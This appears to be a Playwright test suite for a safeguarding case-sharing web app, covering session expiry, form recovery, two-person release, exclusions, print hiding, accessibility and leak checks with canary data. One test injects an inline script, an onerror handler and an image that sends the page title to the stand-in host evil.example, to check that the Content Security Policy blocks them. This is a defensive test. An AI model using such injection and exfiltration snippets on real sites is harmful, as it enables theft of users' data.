"""Safe by construction, where the browser decides: what a person meets who is at the desk."""

import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Page, Request

from consumers.whereabouts import WAIT_MS
from producers.sender import until
from tests.support.browser import Served, axe, choose, in_memory, shot, sign_in
from tests.support.stranger import concern, seeded
from tests.support.strategies import provenance
from tests.support.working import Working, files_in

POLICE, GOVERNANCE, PROBATION = "thames-valley", "mk-csp", "nps-thames-valley/case"
IDLE_MS = 16 * 60_000
ADDRESS, NARRATIVE, FAMILY = "3 Canary Row", "canary words of hers", "Canaryson"
CANARIES = (ADDRESS, NARRATIVE, FAMILY, "Canary", "canary")
OFFICER = "Lee Hart (name invented)"


@pytest.fixture
def town(tmp_path: Path) -> Iterator[Working]:
    made = Working("safe", store=files_in(tmp_path), acting=[POLICE, GOVERNANCE])
    yield made
    made.close()


def report(town: Working, urgency: str = "urgent", **lacking: Any) -> None:
    """Have probation report two people, and where one of them is."""
    sections = concern(seeded(f"safe/{urgency}/{bool(lacking)}"))
    one = sections["person.2.identity"]
    one["names"] = [{"given": "Tracey", "family": FAMILY}]
    sections["person.2.whereabouts"] = {"subject": one["subject"], "address": ADDRESS}
    sections["narrative"] = {"text": NARRATIVE, "form": "verbatim"}
    town.say(PROBATION, "concern_reported", {**sections, **lacking}, urgency=urgency)
    town.settle()


async def open_report(page: Page) -> str:
    """Open the first report of the inbox; give its path."""
    await page.goto("/")
    await page.locator(".desk-row a").first.click()
    await page.wait_for_url("**/reports/*")
    return "/" + page.url.split("/", 3)[3]


async def fits(page: Page) -> bool:
    """Say whether nothing of a page must be scrolled sideways to be read."""
    wide = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
    return bool(await page.evaluate(wide))


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
async def test_what_was_being_written_outlives_the_session(
    browser: Browser, town: Working, tmp_path: Path, script: bool
) -> None:
    """Locked in mid form: sent or not, it is there again for the same person, and not sent."""
    report(town, "routine")
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser, script=script)
        await sign_in(page, "officer", purpose="my_task")
        where = f"{await open_report(page)}/whereabouts/2"
        await page.goto(where)
        words = "to plan a visit with the housing officer"
        await page.get_by_label("Why do you need").fill(words)
        desk.clock.ahead_ms += IDLE_MS
        if script:  # the page is left by itself: nobody reads on at a screen that is left
            await page.wait_for_url("**/oauth2/authorize**")
        else:
            await page.get_by_role("button", name="Ask a second person").click()
        await page.get_by_role("button", name="officer", exact=True).click()
        await page.get_by_role("heading", name="What you left unsaved").wait_for()
        assert words in await page.content()
        await shot(page, f"unsaved-{script}")
        if script:
            assert await axe(page) == []
        await page.get_by_role("link", name="Go on with form 1").click()
        field = page.get_by_label("Why do you need")
        assert await field.input_value() == words
        await page.get_by_role("button", name="Ask a second person").click()
        await page.get_by_text("Waiting for a second person").wait_for()
        await page.goto("/unsaved")
        await page.get_by_text("Nothing.", exact=True).wait_for()


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
async def test_the_way_back_after_an_error_brings_what_was_typed(
    browser: Browser, town: Working, tmp_path: Path, script: bool
) -> None:
    """Chromium had ERR_CACHE_MISS there: what was typed at 3 am was lost, or looked lost."""
    report(town, "routine")
    words = "whether he is on licence"
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser, script=script)
        await sign_in(page, "officer", purpose="my_task")
        where = await open_report(page)
        await page.context.unroute_all()  # who looks at requests sends a form anew on the way back
        await page.get_by_role("link", name="Ask another agency").click()
        why = page.get_by_label("Why?")
        await why.fill(words)
        await page.get_by_role("button", name="Ask them").click()
        await page.get_by_text("There is a problem").wait_for()
        assert page.url.endswith(f"{where}/ask#wrong"), "nothing of it is in the address"
        assert await why.input_value() == words
        for link in ("Inbox", "My duties"):
            await page.get_by_role("navigation").get_by_role("link", name=link).first.click()
            await page.get_by_role("heading", name=link, level=1).wait_for()
        for _ in range(2):
            await page.go_back()
        await page.get_by_role("heading", name="Ask another agency").wait_for()
        assert await why.input_value() == words
        await page.reload()
        assert await why.input_value() == words
        await page.go_back()
        await page.get_by_role("heading", name="Ask another agency").wait_for()
        assert await why.input_value() == words


async def test_a_page_that_stays_open_is_covered_when_its_session_ends(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """Signed out in another tab, or revoked: the report does not stay on the screen."""
    report(town)
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser)
        await sign_in(page, "officer", purpose="new_report")
        await open_report(page)
        desk.station.sessions.revoke("officer")
        await page.wait_for_url("**/oauth2/authorize**")
        assert NARRATIVE not in await page.content()


async def test_what_comes_is_told_to_whoever_writes_and_nothing_leads_them_away(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """A form may stand open for an hour: the new report must not wait until it is sent."""
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser)
        await sign_in(page, "officer", purpose="my_task")
        told = "retry: 60000\nevent: came\ndata: 1\n\n"
        await page.route(
            "**/live", lambda one: one.fulfill(body=told, content_type="text/event-stream")
        )
        await page.goto("/search")
        await page.get_by_text("Something has come").wait_for()
        link = page.get_by_role("link", name="Open the inbox")
        assert await link.get_attribute("target") == "_blank"


async def decide(page: Page, who: str, reason: str, *, look: bool = False) -> None:
    """Have one person sign in at governance's desk, and release the first thing that is held."""
    await sign_in(page, who, purpose="supervision")
    await page.goto("/quarantine")
    assert NARRATIVE not in await page.content()
    if look:
        await shot(page, "quarantine")
    await page.locator(".desk-row a").first.click()
    assert NARRATIVE not in await page.content()
    assert FAMILY not in await page.content()
    await page.get_by_label("Let it go to everybody").check()
    if look:  # without what it asks for, nothing is said; and what was chosen stands still
        await page.get_by_role("button", name="Put my word on the log").click()
        await page.get_by_text("There is a problem").wait_for()
        assert await page.get_by_label("Let it go to everybody").is_checked()
        await shot(page, "held-error")
    for one in await page.locator("input[name=waive]").all():
        await one.check()
    await page.get_by_label("Why?").fill(reason)
    await page.get_by_role("button", name="Put my word on the log").click()
    await page.get_by_text("Your word is on the log").wait_for()


async def test_two_people_let_go_what_is_held_and_see_nothing_of_it(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """Without script; the first cannot say it twice, and police have it after the second."""
    report(town, "routine", provenance=provenance("role"))
    with in_memory(town, GOVERNANCE, tmp_path) as desk:
        first = await desk.open(browser, script=False)
        await decide(first, "manager", "the officer is known to us", look=True)
        await first.locator(".desk-row a").first.click()
        await first.get_by_label("Refuse it").check()
        await first.get_by_label("Why?").fill("twice")
        await first.get_by_role("button", name="Put my word on the log").click()
        await first.get_by_text("You have decided on this already").first.wait_for()
        assert not [v for v in town.log.opened(POLICE) if v.statement.kind.name[:7] == "concern"]
        second = await desk.open(browser, script=False)
        await decide(second, "supervisor", "I rang her office")
        await second.get_by_text("Nothing is held").wait_for()
        await shot(second, "quarantine-none")
    came = [v for v in town.log.opened(POLICE) if v.statement.kind.name == "concern_reported"]
    assert len(came) == 1


async def test_an_officer_whom_a_manager_excludes_meets_nothing_any_more(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """Recorded at the desk, it holds at once; lifted, it holds no more. Without script."""
    report(town)
    with in_memory(town, POLICE, tmp_path) as desk:
        officer = await desk.open(browser, script=False)
        await sign_in(officer, "officer", purpose="new_report")
        path = await open_report(officer)
        manager = await desk.open(browser, script=False)
        await sign_in(manager, "manager", purpose="supervision")
        await manager.goto("/exclusions")
        await manager.get_by_label("Reference of a report").fill(path.rpartition("/")[2])
        await manager.get_by_role("button", name="Go on").click()
        await manager.get_by_role("button", name="Keep it from them").click()
        await manager.get_by_text("There is a problem").wait_for()
        await shot(manager, "exclusion-error")
        await manager.get_by_label("Tracey").check()
        await manager.get_by_label("One person who works here").check()
        await manager.get_by_label("Their name").fill(OFFICER)
        await manager.get_by_label("Why?").fill("he is her brother")
        await manager.get_by_role("button", name="Keep it from them").click()
        await manager.get_by_text("Kept (entry").wait_for()
        await shot(manager, "exclusions")
        await officer.goto(path)
        nothing = await officer.locator("main").inner_text()
        await officer.goto("/reports/0132b1a4-9c40-7000-8000-000000000001")
        assert await officer.locator("main").inner_text() == nothing
        assert "Nothing to show" in nothing
        await officer.goto("/")
        assert await officer.locator(".desk-row").count() == 0
        await manager.get_by_role("link", name="Lift this").click()
        await manager.get_by_label("Why may it be lifted?").fill("it was another man")
        await manager.get_by_role("button", name="Lift it").click()
        await manager.get_by_text("Lifted (entry").wait_for()
        await officer.goto(path)
        assert "Nothing to show" not in await officer.locator("main").inner_text()


async def test_where_somebody_is_is_not_printed_and_no_way_back_shows_it(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """A printer stands in a corridor; a browser's history belongs to whoever sits there next."""
    report(town, "threat_to_life")
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser)
        await sign_in(page, "officer", purpose="my_task")
        await page.goto(f"{await open_report(page)}/whereabouts/2")
        await shot(page, "whereabouts-ask")
        await page.get_by_label("Why do you need").fill("to visit her")
        await page.get_by_role("button", name="Look alone").click()
        await page.get_by_role("button", name="Show where").click()
        await page.get_by_text(ADDRESS).wait_for()
        await shot(page, "whereabouts-shown")
        assert await axe(page) == []
        await page.emulate_media(media="print")
        assert not await page.get_by_text(ADDRESS).is_visible()
        assert await page.get_by_text("This is not printed").is_visible()
        await page.emulate_media(media="screen")
        await page.goto("/key")
        desk.clock.ahead_ms += WAIT_MS - 60_000
        await page.goto("/key")
        desk.clock.ahead_ms += 2 * 60_000
        await page.go_back()
        await page.go_back()
        assert ADDRESS not in await page.content()


async def walk(desk: Served, page: Page, path: str, names: list[str]) -> list[str]:
    """Open every page of this part, at three widths; say what keeps somebody out of one."""
    found = []
    for name in names:
        await page.goto(path if name == "report" else f"/{name}".replace("/inbox", "/"))
        found += [f"{name}: {one}" for one in await axe(page)]
        await shot(page, name.replace("/", "-"))
        await page.set_viewport_size({"width": 320, "height": 640})
        if not await fits(page):
            found.append(f"{name}: must be scrolled sideways at 320 pixels")
        await shot(page, f"{name.replace('/', '-')}-320")
        await page.set_viewport_size({"width": 1100, "height": 900})
    return found


async def test_no_page_keeps_anybody_out_or_tells_of_anybody_where_it_should_not(
    browser: Browser, town: Working, tmp_path: Path,
    caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    """By axe at every page; no name in an address, a title, a Referer, a log; nobody else asked."""
    caplog.set_level(logging.INFO)
    report(town)
    report(town, "threat_to_life")
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(f"{request.url} {request.headers.get('referer', '')}")

    with in_memory(town, POLICE, tmp_path) as desk:
        people = {
            "officer": ["inbox", "report", "key", "quarantine", "unsaved", "looks"],
            "supervisor": ["whereabouts", "purpose"],
            "manager": ["exclusions", "looks", "quarantine"],
            "auditor": ["inbox", "looks", "exclusions"],
        }
        found, titles = [], set()
        for who, names in people.items():
            page = await desk.open(browser)
            page.on("request", note)
            await sign_in(page, who, purpose="supervision")
            path = await open_report(page)
            if who == "officer":
                await page.goto(f"{path}/whereabouts/2")
                await page.get_by_label("Why do you need").fill("to visit her")
                await page.get_by_role("button", name="Look alone").click()
                await page.get_by_role("button", name="Show where").click()
            titles.add(await page.title())
            found += await walk(desk, page, path, names)
            titles.add(await page.title())
            if who == "manager":
                await page.goto(f"/exclusions/about/{path.rpartition('/')[2]}")
                found += await axe(page)
                await shot(page, "exclusion")
            await page.context.close()
        assert found == []
        assert desk.elsewhere == []
    said = capfd.readouterr()
    for text in (*asked, *titles, said.out, said.err, caplog.text):
        assert not any(one in text for one in CANARIES), text[:300]
    assert any("/reports/" in one for one in asked)


async def test_what_stands_inline_does_not_run(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """Were something put into a page all the same: the browser refuses it."""
    report(town)
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser)
        refused: list[str] = []
        page.on("console", lambda one: refused.append(one.text))
        await sign_in(page, "officer", purpose="my_task")
        put = """() => {
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            const image = document.createElement("img");
            image.setAttribute("onerror", "window.ran = true");
            image.src = "/assets/none.png";
            document.body.append(image);
            const away = document.createElement("img");
            away.src = "https://evil.example/?" + document.title;
            document.body.append(away);
        }"""
        await page.evaluate(put)
        assert await until(
            lambda: sum("Content Security Policy" in one for one in refused) >= 3, 60
        )
        assert await page.evaluate("window.ran") is None
        blocked = " ".join(refused)
        assert "inline script" in blocked
        assert "evil.example" in blocked
        assert desk.elsewhere == []


async def test_the_purpose_is_asked_once_and_shown_until_it_is_changed(
    browser: Browser, town: Working, tmp_path: Path
) -> None:
    """Before the first report; and somebody who forgot it reads it on each page."""
    report(town)
    with in_memory(town, POLICE, tmp_path) as desk:
        page = await desk.open(browser, script=False)
        await sign_in(page, "officer")
        await page.locator(".desk-row a").first.click()
        await page.get_by_role("heading", name="Why are you looking?").wait_for()
        await page.get_by_role("button", name="Go on").click()
        await page.get_by_text("Choose why you are looking").first.wait_for()
        await choose(page, "new_report")
        assert "/reports/" in page.url
        assert "You are looking for: A report that has just come in" in await page.content()
